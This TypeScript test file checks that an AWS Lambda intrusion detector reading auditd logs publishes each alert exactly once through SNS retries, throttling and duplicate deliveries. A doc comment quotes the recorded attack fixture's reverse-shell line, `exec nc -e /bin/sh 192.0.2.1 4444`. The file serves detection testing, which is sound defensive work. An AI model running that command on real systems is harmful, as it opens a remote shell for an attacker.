import { PublishCommand } from "@aws-sdk/client-sns";
import type { CloudWatchLogsEvent, KinesisStreamEvent } from "aws-lambda";
import { afterEach, describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import { makeCloudWatchLogsHandler } from "../../lib/triggers/cloudwatch-logs-trigger.js";
import { makeKinesisHandler } from "../../lib/triggers/kinesis-trigger.js";
import { deliveries, sampleRecords } from "../helpers/cut-harness.js";
import { detectorHarness } from "../helpers/detector-harness.js";
import { type LocalDynamo, startDynalite } from "../helpers/dynalite.js";

/**
 * The redeliveries that lost or repeated alerts, on the attack-like procedures recorded with real auditd
 * (test/fixtures/samples/recorded): A3 is `sh /tmp/rs.sh` whose last line `exec nc -e /bin/sh 192.0.2.1
 * 4444` replaces the shell (pid 7729), and nc, once connected, replaces itself with /bin/sh (same pid).
 */
const RECORDS = sampleRecords("test/fixtures/samples/recorded/attack-cases.auditd.log");
const EXPECTED_ALERTS = 14;
const NC = { pid: 7729, utility: "nc", path: "/tmp/rs.sh" };

let local: LocalDynamo | undefined;
afterEach(async () => {
  await local?.close();
  local = undefined;
});

async function harness() {
  local = await startDynalite();
  return { ...detectorHarness(local.client, local.tableName), local };
}

const throttled = () =>
  Object.assign(new Error("Rate exceeded"), {
    name: "ThrottlingException",
    $metadata: { httpStatusCode: 400 },
  });
const throttledTable = () =>
  Object.assign(new Error("The level of configured provisioned throughput for the table was exceeded"), {
    name: "ProvisionedThroughputExceededException",
    $metadata: { httpStatusCode: 400 },
  });

/**
 * SNS Publish that throttles the first attempt of the alert `when` picks, and records what went out; `delayMs`
 * keeps each call in flight a while, as a real one is.
 */
function publishes(
  h: Pick<ReturnType<typeof detectorHarness>, "snsMock">,
  when: (alert: Alert) => boolean,
  delayMs = 0,
  out: Alert[] = [],
) {
  let failed = false;
  h.snsMock.on(PublishCommand).callsFake(async (input: { Message: string }) => {
    const alert = JSON.parse((JSON.parse(input.Message) as { sqs: string }).sqs) as Alert;
    if (delayMs > 0) await new Promise((resolve) => setTimeout(resolve, delayMs));
    if (!failed && when(alert)) {
      failed = true;
      throw throttled();
    }
    out.push(alert);
    return { MessageId: `m-${out.length}` };
  });
  return out;
}

/** The records up to the end of `sh /tmp/rs.sh`'s exec (serial 83): A3's script image comes in a batch before. */
const SCRIPT_END = RECORDS.findIndex((r) => r.includes("type=PROCTITLE msg=audit(1796266184.265:83)")) + 1;

const isNc = (a: Alert) => a.process.pid === NC.pid && a.utility.name === NC.utility;
const countById = (alerts: readonly Alert[]) => {
  const counts = new Map<string, number>();
  for (const a of alerts) counts.set(a.id, (counts.get(a.id) ?? 0) + 1);
  return counts;
};

/** Redelivers a Kinesis batch from the reported record, as the event source mapping does. */
async function untilDone(handler: ReturnType<typeof makeKinesisHandler>, event: KinesisStreamEvent) {
  let records = event.Records;
  for (let attempt = 0; attempt < 5 && records.length > 0; attempt++) {
    const { batchItemFailures } = await handler({ Records: records });
    if (batchItemFailures.length === 0) return attempt;
    const from = batchItemFailures[0]!.itemIdentifier;
    records = records.slice(records.findIndex((r) => r.kinesis.sequenceNumber === from));
  }
  throw new Error("did not complete");
}

/** The batch ending with `sh /tmp/rs.sh`'s exec, and the batch of everything after it. */
function splitAtScript(): KinesisStreamEvent[] {
  const [all] = deliveries(RECORDS, { kind: "kinesis", batch: RECORDS.length }) as KinesisStreamEvent[];
  return [{ Records: all!.Records.slice(0, SCRIPT_END) }, { Records: all!.Records.slice(SCRIPT_END) }];
}

const oneBatch = () => deliveries(RECORDS, { kind: "kinesis", batch: 1_000 })[0] as KinesisStreamEvent;

describe("a retry gives the first attempt's verdict", () => {
  it("Kinesis: nc's publish throttled once; the redelivery from its record still publishes it", async () => {
    const h = await harness();
    const out = publishes(h, isNc);
    expect(await untilDone(makeKinesisHandler(h.deps), oneBatch())).toBe(1);
    expect(out.filter(isNc).map((a) => a.location.path)).toEqual([NC.path]);
    expect(out).toHaveLength(EXPECTED_ALERTS);
    expect([...countById(out).values()].every((n) => n === 1)).toBe(true);
  });

  it("CloudWatch Logs: the async retry of an envelope after nc's publish failed publishes it", async () => {
    const h = await harness();
    const out = publishes(h, isNc);
    const handler = makeCloudWatchLogsHandler(h.deps);
    const [script, rest] = [RECORDS.slice(0, SCRIPT_END), RECORDS.slice(SCRIPT_END)].map(
      (records) =>
        deliveries(records, {
          kind: "cloudwatch",
          envelope: 1_000,
          shuffled: false,
        })[0] as CloudWatchLogsEvent,
    );
    await handler(script!);
    await expect(handler(rest!)).rejects.toMatchObject({ retryable: true });
    await handler(rest!);
    expect(out.filter(isNc).map((a) => a.location.path)).toEqual([NC.path]);
    expect(out).toHaveLength(EXPECTED_ALERTS);
  });

  it("a BatchWriteItem chunk left unprocessed past the retries: the redelivered batch loses nothing", async () => {
    const h = await harness();
    const out = publishes(h, () => false);
    // The first attempt's lineage write: every call leaves its last item unprocessed, until the store gives
    // up; later attempts write normally.
    let starved = true;
    h.local.client.middlewareStack.add(
      (next, context) => async (args) => {
        const input = (args as { input: { RequestItems?: Record<string, unknown[]> } }).input;
        if (!starved || context.commandName !== "BatchWriteItemCommand" || input.RequestItems === undefined)
          return next(args);
        const [table, items] = Object.entries(input.RequestItems)[0]!;
        const keep = items.length - 1;
        const result = await next({
          ...args,
          input: { RequestItems: { [table]: items.slice(0, keep) } },
        } as never);
        (result.output as { UnprocessedItems?: unknown }).UnprocessedItems = { [table]: items.slice(keep) };
        return result;
      },
      { step: "initialize", name: "starveWrites" },
    );
    const handler = makeKinesisHandler(h.deps);
    const [script, event] = splitAtScript();
    starved = false;
    await handler(script!);
    starved = true;
    const first = await handler(event!);
    expect(first.batchItemFailures).toEqual([{ itemIdentifier: event!.Records[0]!.kinesis.sequenceNumber }]);
    starved = false;
    expect((await handler(event!)).batchItemFailures).toEqual([]);
    expect(out.filter(isNc)).toHaveLength(1);
    expect(countById(out).size).toBe(EXPECTED_ALERTS);
    expect([...countById(out).values()].every((n) => n === 1)).toBe(true);
  }, 30_000);
});

describe("a duplicate never publishes twice", () => {
  it("two invocations of the same batch at once: each alert published once", async () => {
    const h = await harness();
    const out = publishes(h, () => false, 30);
    // Two containers, as Lambda runs two invocations: each has its own clients and memory.
    const other = detectorHarness(h.local.client, h.local.tableName);
    publishes(other, () => false, 30, out);
    const event = oneBatch();
    const [a, b] = await Promise.all([
      makeKinesisHandler(h.deps)(event),
      makeKinesisHandler(other.deps)(event),
    ]);
    expect([a.batchItemFailures, b.batchItemFailures]).toEqual([[], []]);
    expect(out).toHaveLength(EXPECTED_ALERTS);
    expect([...countById(out).values()].every((n) => n === 1)).toBe(true);
  });

  it("the publish succeeded and marking it failed: a redelivery does not publish it again", async () => {
    const h = await harness();
    const out = publishes(h, () => false);
    // Every write that marks an alert published is throttled past the SDK's retries, for the first attempt.
    let marksFail = true;
    h.local.client.middlewareStack.add(
      (next, context) => async (args) => {
        const input = (args as { input: Record<string, unknown> }).input;
        const text = JSON.stringify(input);
        const marking =
          (context.commandName === "PutItemCommand" && text.includes('"posted"')) ||
          (context.commandName === "UpdateItemCommand" && text.includes("published"));
        if (marksFail && marking) throw throttledTable();
        return next(args);
      },
      { step: "initialize", name: "throttleMarks" },
    );
    const handler = makeKinesisHandler(h.deps);
    const event = oneBatch();
    // The first invocation: every publish goes through, every mark fails.
    const first = await handler(event);
    marksFail = false;
    // Delivered again, from where the first reported a failure, or whole (a duplicate delivery), to the same
    // container.
    const from = first.batchItemFailures[0]?.itemIdentifier;
    const again =
      from === undefined
        ? event
        : { Records: event.Records.slice(event.Records.findIndex((r) => r.kinesis.sequenceNumber === from)) };
    await untilDone(handler, again);
    expect(out).toHaveLength(EXPECTED_ALERTS);
    expect([...countById(out).values()].every((n) => n === 1)).toBe(true);
  });
});
